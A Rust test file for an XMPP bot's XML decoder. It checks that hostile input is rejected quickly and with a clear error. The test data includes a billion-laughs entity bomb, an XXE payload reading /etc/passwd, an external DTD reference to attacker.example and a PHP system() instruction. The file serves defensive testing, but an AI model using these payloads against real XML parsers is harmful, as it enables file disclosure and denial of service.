//! Hostile XML input: every case must return the right class of error, with a
//! useful message, quickly and without panicking.

use std::time::{Duration, Instant};

use xmpp_rest_bot::Error;
use xmpp_rest_bot::stanza::Stanza;
use xmpp_rest_bot::wire::{Limits, xml};

/// Generous: the tests also run unoptimised on a busy machine.
const QUICK: Duration = Duration::from_secs(5);

fn decode_with(input: &[u8], limits: &Limits) -> Result<Stanza, Error> {
    let start = Instant::now();
    let result = xml::decode(input, limits);
    let elapsed = start.elapsed();
    assert!(elapsed < QUICK, "took {elapsed:?}");
    result
}

fn decode(input: &[u8]) -> Result<Stanza, Error> {
    decode_with(input, &Limits::default())
}

#[track_caller]
fn malformed(input: &[u8], needle: &str) -> Error {
    let err = decode(input).expect_err("must be rejected");
    assert!(err.is_malformed(), "expected malformed, got {err}");
    assert!(err.position().is_some());
    let text = err.to_string();
    assert!(
        text.contains(needle),
        "{text:?} does not mention {needle:?}"
    );
    err
}

#[track_caller]
fn limit(input: &[u8], limits: &Limits, needle: &str) -> Error {
    let err = decode_with(input, limits).expect_err("must be rejected");
    assert!(err.is_limit(), "expected a limit error, got {err}");
    let text = err.to_string();
    assert!(
        text.contains(needle),
        "{text:?} does not mention {needle:?}"
    );
    err
}

#[track_caller]
fn invalid(input: &[u8], needle: &str) -> Error {
    let err = decode(input).expect_err("must be rejected");
    assert!(err.is_invalid(), "expected invalid, got {err}");
    let text = err.to_string();
    assert!(
        text.contains(needle),
        "{text:?} does not mention {needle:?}"
    );
    err
}

#[test]
fn billion_laughs() {
    let mut doc = String::from("<?xml version='1.0'?>\n<!DOCTYPE lolz [\n <!ENTITY lol 'lol'>\n");
    for i in 1..10 {
        let prev = if i == 1 {
            "lol".to_string()
        } else {
            format!("lol{}", i - 1)
        };
        doc.push_str(&format!(
            " <!ENTITY lol{i} '{}'>\n",
            format!("&{prev};").repeat(10)
        ));
    }
    doc.push_str("]>\n<message><body>&lol9;</body></message>");
    let err = malformed(doc.as_bytes(), "doctype declarations are not allowed");
    assert_eq!(err.position().map(|(line, _)| line), Some(2));
    // and the entity reference alone (no DTD) is not expanded either
    malformed(
        b"<message><body>&lol9;</body></message>",
        "undefined entity &lol9;",
    );
}

#[test]
fn external_entity() {
    let doc =
        b"<?xml version='1.0'?><!DOCTYPE message [<!ENTITY xxe SYSTEM 'file:///etc/passwd'>]>\
                <message><body>&xxe;</body></message>";
    let err = malformed(doc, "doctype");
    assert!(!err.to_string().contains("root:"));
    let doc = b"<!DOCTYPE message SYSTEM 'http://attacker.example/evil.dtd'><message/>";
    malformed(doc, "doctype");
    // a parameter entity in an attribute is just an undefined entity
    malformed(b"<message id='&xxe;'/>", "undefined entity &xxe;");
}

#[test]
fn doctype_alone() {
    malformed(b"<!DOCTYPE message>", "doctype");
    malformed(b"<!DOCTYPE message><message/>", "doctype");
    malformed(b"<message/><!DOCTYPE message>", "doctype");
    malformed(b"<!DOCTYPE message [", "doctype");
}

#[test]
fn deep_nesting() {
    let depth = 10_000;
    let mut doc = String::from("<message><x xmlns='urn:x'>");
    doc.push_str(&"<x>".repeat(depth - 1));
    doc.push_str(&"</x>".repeat(depth));
    doc.push_str("</message>");
    assert!(doc.len() < Limits::DEFAULT_MAX_BYTES);
    let err = limit(doc.as_bytes(), &Limits::default(), "nesting depth");
    assert!(
        err.to_string()
            .contains(&Limits::DEFAULT_MAX_DEPTH.to_string())
    );
    // unclosed, too
    let doc = "<a>".repeat(depth);
    limit(doc.as_bytes(), &Limits::default(), "nesting depth");
    // a configured depth is honoured exactly (the stanza is depth 1)
    let doc = "<message><a><b><c/></b></a></message>";
    assert!(decode_with(doc.as_bytes(), &Limits::default().max_depth(4)).is_ok());
    limit(
        doc.as_bytes(),
        &Limits::default().max_depth(3),
        "nesting depth",
    );
}

#[test]
fn invalid_utf8() {
    let err = malformed(b"<message><body>caf\xC3</body></message>", "invalid utf-8");
    assert_eq!(err.position(), Some((1, 19)));
    let err = malformed(b"<message id='\xFF\xFE'/>", "invalid utf-8");
    assert_eq!(err.position(), Some((1, 14)));
    // an overlong encoding of '<' and a UTF-16 surrogate encoded as UTF-8
    malformed(b"<message><body>\xC0\xBC</body></message>", "invalid utf-8");
    malformed(
        b"<message><body>\xED\xA0\x80</body></message>",
        "invalid utf-8",
    );
    // UTF-16 input
    malformed(b"\xFF\xFE<\x00m\x00/\x00>\x00", "invalid utf-8");
    // control characters are not XML even when they are UTF-8
    malformed(b"<message><body>a\x00b</body></message>", "U+0000");
    malformed(b"<message id='\x1B'/>", "U+001B");
}

#[test]
fn ten_megabyte_attribute() {
    let value = "A".repeat(10 * 1024 * 1024);
    let doc = format!("<message><x xmlns='urn:x' big='{value}'/></message>");
    // over the default size limit: refused before parsing
    let start = Instant::now();
    limit(
        doc.as_bytes(),
        &Limits::default(),
        "xml input size in bytes",
    );
    assert!(start.elapsed() < Duration::from_millis(100));
    // allowed by the limits: parsed, and kept whole
    let limits = Limits::default().max_bytes(16 * 1024 * 1024);
    let Stanza::Message(m) = decode_with(doc.as_bytes(), &limits).unwrap() else {
        panic!("a message")
    };
    assert_eq!(m.extensions[0].attr("big").map(str::len), Some(value.len()));
    // escaped characters in it are unescaped
    let doc = format!("<message id='{}'/>", "&amp;".repeat(2 * 1024 * 1024));
    let Stanza::Message(m) = decode_with(doc.as_bytes(), &limits).unwrap() else {
        panic!("a message")
    };
    assert_eq!(m.id.map(|id| id.len()), Some(2 * 1024 * 1024));
}

#[test]
fn truncated_input() {
    let doc = "<message to='bot@bot.localhost' from='alice@localhost/r' type='chat' id='m1'>\
               <body>héllo &amp; 😀</body><x xmlns='urn:x'><![CDATA[raw]]><!-- note --></x></message>";
    assert!(decode(doc.as_bytes()).is_ok());
    let bytes = doc.as_bytes();
    for cut in 0..bytes.len() {
        let err = decode(&bytes[..cut]).expect_err("a prefix is not a document");
        assert!(err.is_malformed(), "cut at {cut}: {err}");
    }
    let err = malformed(b"<message><body>hi", "unexpected end of input");
    assert!(err.to_string().contains("<body> is not closed"));
    malformed(b"<message><body>hi</body", "unexpected end of input");
    malformed(b"<message to='a", "unexpected end of input");
    malformed(b"", "no root element");
}

#[test]
fn the_recorded_malformed_answer() {
    malformed(
        b"<message><body>x</message>",
        "expected </body>, found </message>",
    );
}

#[test]
fn two_roots_and_trailing_content() {
    malformed(b"<message/><message/>", "more than one root element");
    malformed(b"<message/>\n<presence/>", "more than one root element");
    malformed(b"<message/>trailing", "text after the root element");
    malformed(b"<message/>&amp;", "outside the root element");
    malformed(b"junk<message/>", "text before the root element");
    // whitespace and comments around the root are fine
    assert!(decode(b"\n  <message/>\n<!-- bye -->\n").is_ok());
}

#[test]
fn unbound_prefix() {
    malformed(
        b"<message><foo:bar/></message>",
        "unbound namespace prefix \"foo\"",
    );
    malformed(b"<stream:message/>", "unbound namespace prefix \"stream\"");
    malformed(
        b"<message><x xmlns='urn:x' a:b='1'/></message>",
        "unbound namespace prefix \"a\"",
    );
    // a prefix is unbound outside the element declaring it
    malformed(
        b"<message><a xmlns:p='urn:p'><p:b/></a><p:c/></message>",
        "unbound namespace prefix \"p\"",
    );
}

#[test]
fn forbidden_references_and_instructions() {
    malformed(
        b"<message><body>&nbsp;</body></message>",
        "undefined entity &nbsp;",
    );
    malformed(b"<message><body>&#0;</body></message>", "&#0;");
    malformed(b"<message><body>&#xD800;</body></message>", "&#xD800;");
    malformed(b"<message><body>&#x110000;</body></message>", "&#x110000;");
    malformed(b"<message><body>&#8;</body></message>", "&#8;");
    malformed(b"<message id='&#0;'/>", "&#0;");
    malformed(
        b"<?php system('id'); ?><message/>",
        "processing instructions",
    );
    malformed(b"<message><?evil?></message>", "processing instructions");
    malformed(b"<message><body>a & b</body></message>", "reference");
}

#[test]
fn wrong_top_element() {
    invalid(b"<foo/>", "found <foo/>");
    invalid(b"<message xmlns='jabber:server'/>", "jabber:server");
    invalid(b"<body>hi</body>", "<body/>");
    invalid(
        b"<stream:stream xmlns:stream='http://etherx.jabber.org/streams'/>",
        "found <stream/>",
    );
    invalid(b"<xmpp><message/></xmpp>", "<xmpp/>");
}

#[test]
fn bad_jid() {
    invalid(
        b"<message to='alice@@example.org'/>",
        "invalid to attribute",
    );
    invalid(
        b"<message to='alice@example.org' from='@example.org'/>",
        "invalid from attribute",
    );
    invalid(b"<presence to='a@example.org/'/>", "invalid to attribute");
    invalid(
        b"<iq type='get' to=''/>",
        "invalid to attribute \"\" on <iq/>",
    );
    let long = format!("<message to='{}@example.org'/>", "a".repeat(2000));
    invalid(long.as_bytes(), "invalid to attribute");
}

#[test]
fn unknown_type() {
    invalid(
        b"<message type='bogus'/>",
        "invalid type attribute \"bogus\" on <message/>",
    );
    invalid(
        b"<presence type='online'/>",
        "invalid type attribute \"online\" on <presence/>",
    );
    invalid(
        b"<iq type='GET'/>",
        "invalid type attribute \"GET\" on <iq/>",
    );
    invalid(b"<iq id='1'/>", "missing type attribute on <iq/>");
}

#[test]
fn attribute_and_children_limits() {
    let attrs: String = (0..Limits::DEFAULT_MAX_ATTRIBUTES + 1)
        .map(|i| format!(" a{i}='v'"))
        .collect();
    let doc = format!("<message><x xmlns='urn:x'{attrs}/></message>");
    limit(
        doc.as_bytes(),
        &Limits::default(),
        "attributes on one element",
    );

    let doc = format!(
        "<message>{}</message>",
        "<x xmlns='urn:x'/>".repeat(Limits::DEFAULT_MAX_CHILDREN + 1)
    );
    limit(
        doc.as_bytes(),
        &Limits::default(),
        "children of one element",
    );

    let doc = format!(
        "<message><x xmlns='urn:x'>{}</x></message>",
        "<y/>t".repeat(Limits::DEFAULT_MAX_CHILDREN)
    );
    limit(
        doc.as_bytes(),
        &Limits::default(),
        "children of one element",
    );
}

#[test]
fn malformed_markup() {
    malformed(b"<message id=1/>", "quoted");
    malformed(b"<message id='1' id='2'/>", "duplicate attribute");
    malformed(b"<message><body></bodY></message>", "expected </body>");
    malformed(b"</message>", "closing tag </message> has no start tag");
    malformed(b"<message><!-- a -- b --></message>", "'--'");
    malformed(b"<message><!-- unterminated", "comment");
    malformed(b"<message><![CDATA[ unterminated", "cdata");
    malformed(b"<message b='<'/>", "'<'");
    malformed(b"<1message/>", "invalid element name");
}
